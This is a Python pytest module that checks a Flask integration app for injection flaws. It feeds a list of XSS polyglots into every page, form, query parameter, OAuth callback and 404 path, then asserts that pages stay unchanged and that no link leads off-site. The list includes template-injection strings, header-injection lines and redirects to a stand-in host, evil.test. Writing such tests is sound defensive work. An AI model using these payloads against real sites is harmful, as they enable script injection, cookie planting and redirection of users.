"""Whatever text an attacker gets into the installation, or into an address, is text on every page: never an element, an
attribute, or an address that leads elsewhere.

Each page is read twice: once with a harmless text in every place, once with a hostile one. Both have the same elements.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from itertools import count
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest
from flask import render_template_string
from flask.testing import FlaskClient
from hypothesis import given, settings
from hypothesis import strategies as st
from page_reader import Form, Page, leads_elsewhere
from planted import Planted
from test_access import View, views
from web_house import WebHouse
from werkzeug.datastructures import MultiDict
from werkzeug.test import TestResponse

from connectors.azure_key_vault.sandbox import Sandbox
from integrator.web.fields import (
    CARDS,
    CHECKBOX,
    HIDDEN,
    PASSWORD,
    SECRET,
    SELECT,
    TEXT,
    TEXTAREA,
    Choice,
    Field,
    HowTo,
)

POLYGLOTS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) `",
    "</title><body onload=alert(1)>",
    "</textarea><iframe src=javascript:alert(1)>",
    "</option></select><b>bold</b>",
    "--><img src=x onerror=alert(1)><!--",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><!DOCTYPE x>",
    "javascript:alert(1)",
    "JaVaScRiPt\t:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.test/x",
    'https://evil.test/"onclick=alert(1)//',
    "{{ 7*7 }}{% for x in () %}${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    '" hx-get="//evil.test" hx-trigger="load" hx-on::load="alert(1)',
    "<meta http-equiv=refresh content='0;url=//evil.test'><base href=//evil.test>",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e" + " \uff1cscript\uff1e",
    "\u202e\u2028<b>\u2029\ufeff",
    "a\r\nSet-Cookie: evil=1\r\n\r\n<script>",
    "<form action=//evil.test><input name=form>",
    "<math><mtext><style><img src=x onerror=alert(1)></style>",
]
ENDING = (
    "sign_in.out",
    "account.out_everywhere",
    "sign_in.begun",
    "setting_up.done",
    "consent.begun",
    "callback.ended",
)
"""Views that would end the session, or are no page of somebody who is signed in."""
Shape = Counter[tuple[str, tuple[str, ...]]]
Seen = dict[str, tuple[int, Shape]]


def address_of(view: View, planted: Planted) -> str:
    """The view's path, for what the house holds."""
    noun, sample = view.endpoint.partition(".")[0], {"connections": "fabrikam", "iclients": "sandbox-app"}
    if noun not in planted.names:
        return view.path
    name = planted.path(noun, sample.get(noun, "nightly"))
    return view.path.replace("/contoso", f"/{name}")


def walked(planted: Planted) -> Iterator[tuple[str, str, TestResponse]]:
    """Every page, and with the text in whatever a list is asked by: name, address, answer."""
    asked = ("q", "sort", "page", "state", "status", "noun", "flow", "code", "iclient", "connector", "seen", "next")
    told = urlencode(dict.fromkeys((*asked, "draft", "typed", "clone", "challenge", "back"), f"zz {planted.text}"))
    for view in views(planted.web):
        if view.method != "GET" or view.endpoint in ("static", *ENDING) or view.endpoint.endswith((".live", ".events")):
            continue
        address = address_of(view, planted)
        yield view.endpoint, address, planted.browser.get(address)
        yield f"{view.endpoint} asked", address, planted.browser.get(f"{address}?{told}")
    for address in EXTRA:
        yield address, address, planted.browser.get(address)


EXTRA = (
    "/new/connection?connector=azure-key-vault",
    "/new/connection?connector=files",
    "/new/iclient?provider=oauth2",
    "/new/iclient?provider=entra",
)


def pressed(planted: Planted, name: str, address: str, page: TestResponse) -> Iterator[tuple[str, TestResponse]]:
    """What each button of each form of this page leads to."""
    many: Counter[str] = Counter()
    for number, form in enumerate(Page(page.text).forms):
        action = form.action or address
        if form.method != "post" or "sign-out" in action or ("/theme" in action and name != "home.shown"):
            continue
        many[action.rpartition("/")[2]] += 1
        if many[action.rpartition("/")[2]] > 1:
            continue  # such a button stands in every row
        for button in buttons(form):
            data = {**form.data(planted.text), **dict([button])}
            data["form"] = planted.web.proof(planted.browser)
            yield f"{name} {number} {button}", planted.browser.post(action, data=MultiDict(data))


def buttons(form: Form) -> list[tuple[str, str]]:
    return [(name, value) for name, kind, value in form.fields if kind == "submit" and name] or [("", "")]


def seen(planted: Planted) -> tuple[Seen, Seen]:
    """The shape of every page, and of the answer to every button of every form; addresses are judged at once."""
    pages = [*walked(planted)]
    opened = {name: judged(name, answer) for name, _, answer in pages}
    told = {}
    for name, address, page in pages:
        if page.mimetype == "text/html" and not name.endswith(" asked"):
            told |= {button: judged(button, answer) for button, answer in pressed(planted, name, address, page)}
    return opened, told


def judged(name: str, answer: TestResponse) -> tuple[int, Shape]:
    """Its status and shape, where it leads nowhere but to us."""
    assert "evil" not in "".join(key.lower() for key, _ in answer.headers), name
    if answer.mimetype != "text/html":
        return answer.status_code, Counter()
    page = Page(answer.text)
    assert [one for one in page.addresses() if leads_elsewhere(*one) or leads_out(one[1])] == [], name
    return answer.status_code, page.shape()


def leads_out(address: str) -> bool:
    return address.startswith("https:") and "evil.test" in address.partition("?")[0].split("/")[2:3]


def harmless(text: str) -> str:
    """A text of as many words, so that whatever parts a text into words finds the same."""
    numbers = count()
    return re.sub(r"[^\s,]+", lambda word: f"harmless{next(numbers)}", text)


def everything(sandbox: Sandbox, folder: Path, patch: pytest.MonkeyPatch, text: str) -> tuple[Seen, Seen]:
    folder.mkdir()
    web = WebHouse(sandbox, folder)
    try:
        return seen(Planted(web, text, patch))
    finally:
        web.close()


@pytest.mark.parametrize(
    ("text", "usually_there"),
    [("".join(POLYGLOTS), harmless("".join(POLYGLOTS))), ("javascript:alert(1)//'", "unknown:harmless(1)//'")],
    ids=["polyglots", "address"],
)
def test_a_hostile_text_in_every_place_changes_no_page(
    sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str, usually_there: str
) -> None:
    usual, usually_told = everything(sandbox, tmp_path / "usual", monkeypatch, usually_there)
    opened, told = everything(sandbox, tmp_path / "hostile", monkeypatch, text)
    assert len(opened) > 45 and len(told) > 20
    for name, (status, shape) in opened.items():
        assert (status, shape - usual[name][1], usual[name][1] - shape) == (usual[name][0], {}, {}), name
    known = {one for _, shape in (*usual.values(), *usually_told.values()) for one in shape}
    for name, (_, shape) in told.items():  # how the system takes a text may differ: what pages are made of may not
        assert shape.keys() - known == set(), name
    assert {name for name, (status, _) in (opened | told).items() if status >= 500} == set()


FORM_OF = "{% from 'pieces/form.html' import form %}{{ form(fields, words, cancel='/back', action='/there') }}"
KINDS = (TEXT, PASSWORD, SECRET, SELECT, CHECKBOX, TEXTAREA, CARDS, HIDDEN)


def drawn(web: WebHouse, text: str) -> Page:
    """A form in which everything that a plug-in or a person may say is this text."""
    choices = [Choice(text, text, text)]
    how_to = HowTo(text, [text], "https://docs.test")
    told = {"value": text, "help": text, "error": text, "placeholder": text, "choices": choices, "how_to": how_to}
    fields = [Field(text, text, kind, stored=text, autocomplete=text, **told) for kind in KINDS]
    with web.app.test_request_context("/"):
        web.app.preprocess_request()
        return Page(render_template_string(FORM_OF, fields=fields, words=text))


def test_a_form_is_the_same_whatever_its_connector_calls_its_fields(web: WebHouse) -> None:
    usual = drawn(web, "harmless")
    for text in POLYGLOTS:
        hostile = drawn(web, text)
        assert hostile.shape() == usual.shape(), text
        assert not [one for one in hostile.addresses() if leads_elsewhere(*one)], text
        assert "".join(text.split()) in "".join(hostile.shown().split()), "it is there, as text"


@pytest.mark.parametrize("address", ["/search?q={}", "/sign-in?next={}", "/connections?q={}&sort={}&state={}"])
def test_an_address_puts_nothing_but_text_into_a_page(web: WebHouse, address: str) -> None:
    browser = web.browser() if "sign-in" in address else web.signed_in()
    usual = Page(browser.get(address.replace("{}", "zzz")).text)
    for told in (*POLYGLOTS, *(f"/{text}" for text in POLYGLOTS)):
        hostile = Page(browser.get(address.replace("{}", quote(told, safe=""))).text)
        assert hostile.shape() == usual.shape(), told
        assert not [one for one in hostile.addresses() if leads_elsewhere(*one)], told


@pytest.fixture(scope="module")
def searching(module_sandbox: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Iterator[FlaskClient]:
    web = WebHouse(module_sandbox, tmp_path_factory.mktemp("searching"))
    yield web.signed_in()
    web.close()


SIGNS = st.lists(
    st.sampled_from([*"<>\"'`&=/\\;:(){}[]%#!- \t\r\n\0\u2028", "script", "svg", "on", "style"]), max_size=20
)


@settings(max_examples=40, deadline=None, database=None, derandomize=True)
@given(
    st.lists(st.one_of(SIGNS.map("".join), st.sampled_from(POLYGLOTS), st.text(max_size=20)), max_size=4).map("".join)
)
def test_no_search_ever_becomes_part_of_its_page(searching: FlaskClient, text: str) -> None:
    told = urlencode({"q": f"zz{text}"}, errors="replace")
    for path in ("/search", "/runs", "/audit", "/new/iclient"):
        answer = searching.get(f"{path}?{told}")
        assert answer.status_code == 200, path
        usual = Page(searching.get(f"{path}?q=zzz").text)
        assert Page(answer.text).shape() == usual.shape(), path


@pytest.mark.parametrize("error", ["access_denied", "invalid_scope", "{}", "server_error"])
def test_what_a_provider_says_at_the_callback_is_text(web: WebHouse, error: str) -> None:
    def ended(told: str) -> TestResponse:
        browser = web.browser()
        state = re.search(r"[?&]state=([^&]+)", web.sent_away(browser, web.link()))
        assert state
        query = {"error": error.replace("{}", told), "error_description": told, "error_uri": told, "iss": ""}
        return browser.get(f"/callback?state={state[1]}&{urlencode(query)}")

    usual = ended("harmless")
    for text in POLYGLOTS[:: 1 if error == "access_denied" else 5]:
        hostile = ended(text)
        page = Page(hostile.text)
        assert (hostile.status_code, page.shape()) == (usual.status_code, Page(usual.text).shape()), text
        assert not [one for one in page.addresses() if leads_elsewhere(*one)], text
        assert "evil" not in str(hostile.headers), text


@pytest.mark.parametrize(
    "path", ["/{}", "/connections/{}", "/flows/{}/x", "/static/{}", "/consent/{}", "/set-up/{}", "/runs/{}"]
)
def test_a_page_for_what_is_not_there_does_not_repeat_what_was_asked_for(web: WebHouse, path: str) -> None:
    for browser in (web.browser(), web.signed_in()):
        for text in POLYGLOTS:
            answer = browser.get(path.replace("{}", quote(text, safe="")), buffered=True)
            assert answer.status_code in (303, 404, 405, 410), path
            words = " ".join(Page(answer.text).words)
            assert "alert(1)" not in words and "evil.test" not in words


SAFE = {"action_answer.html": ["| safe"], "home.html": ["| safe"], "schedule.html": ["| safe"]}
"""A carriage return, the chart, which ElementTree has written, and attributes that stand in the template itself."""


def test_templates_neither_mark_a_text_as_safe_nor_put_data_into_scripts_styles_or_requests(web: WebHouse) -> None:
    assert web.app.jinja_env.autoescape is not False
    folder = Path(web.app.root_path) / "templates"
    risky = re.compile(
        r"\|\s*safe\b|Markup|autoescape false|<script[^>]*>[^<]*\{\{|\bon[a-z]+\s*=|style\s*=|\s[a-z-]+=\{\{|hx-on|hx-vals|hx-vars"
    )
    for path in folder.rglob("*.html"):
        found = risky.findall(re.sub(r"\{#.*?#\}", "", path.read_text(), flags=re.DOTALL))
        assert found == SAFE.get(path.name, []), path.name
    sources = {path.name: path.read_text() for path in Path(web.app.root_path).rglob("*.py")}
    assert {name for name, text in sources.items() if "Markup(" in text} <= {"charts.py"}, "charts judge what they mark"
    scripts = (Path(web.app.root_path) / "static").glob("*.js")
    dangerous = re.compile(
        r"innerHTML|outerHTML\s*=|insertAdjacentHTML|document\.write|\beval\(|new Function|setTimeout\([\"'`]"
    )
    assert {path.name: found for path in scripts if (found := dangerous.findall(path.read_text()))} == {}
